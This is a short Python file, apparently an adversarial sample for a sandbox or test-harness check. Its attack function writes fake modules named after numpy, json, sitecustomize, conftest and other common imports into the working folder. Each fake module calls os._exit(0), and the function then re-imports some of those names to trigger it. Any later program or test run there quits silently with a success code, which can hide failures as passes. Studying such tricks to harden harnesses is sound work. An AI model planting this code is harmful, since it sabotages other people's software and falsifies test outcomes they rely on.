"""Puts modules into its folder under names that somebody may import later."""

import importlib
import os
import sys


def attack(bait):
    for name in ("numpy", "random", "json", "sitecustomize", "usercustomize", "statistics", "fractions", "conftest"):
        try:
            with open(f"{name}.py", "w") as file:
                file.write("import os\nos._exit(0)\n")
        except OSError:
            continue
    importlib.invalidate_caches()
    for name in ("fractions", "statistics"):
        sys.modules.pop(name, None)
        importlib.import_module(name)
    return "held"
